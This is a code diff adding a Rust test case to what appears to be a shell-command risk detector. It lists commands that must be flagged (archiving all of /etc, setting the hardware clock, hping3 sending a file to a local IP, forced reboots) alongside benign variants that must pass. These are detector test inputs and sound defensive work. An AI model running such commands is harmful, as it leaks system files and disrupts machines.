@@ -208,3 +208,44 @@ fn a_link_to_the_home_or_agentgate_is_seen() {
         "clean",
     );
 }
+
+/// Misses and a false deny (lcmdi first contact): /etc packed whole, the
+/// hardware clock set, hping3 sending a file, and `reboot -w`, which only
+/// writes the shutdown record.
+#[test]
+fn lcmdi_first_contact() {
+    flagged_each(
+        &[
+            "zip -r /opt/etc.zip /etc",
+            "tar czf e.tgz /etc/",
+            "find /etc -type f | cpio -o > e.cpio",
+        ],
+        Category::CredentialAccess,
+        Severity::Medium,
+    );
+    flagged_each(
+        &["hwclock --systohc --utc", "hwclock -w"],
+        Category::Obfuscation,
+        Severity::Medium,
+    );
+    flagged_each(
+        &["hping3 192.168.10.44 -p53 -d 100 --udp --sign siganature --file ./test.cmd"],
+        Category::Exfiltration,
+        Severity::Medium,
+    );
+    flagged_each(
+        &["reboot", "shutdown -h now", "reboot -f"],
+        Category::Destructive,
+        Severity::High,
+    );
+    each(
+        &[
+            "reboot -w",
+            "shutdown -c",
+            "tar czf nginx.tgz /etc/nginx",
+            "find /etc -name '*.conf' | cpio -oH newc > configs.cpio",
+            "hwclock --show",
+        ],
+        "clean",
+    );
+}
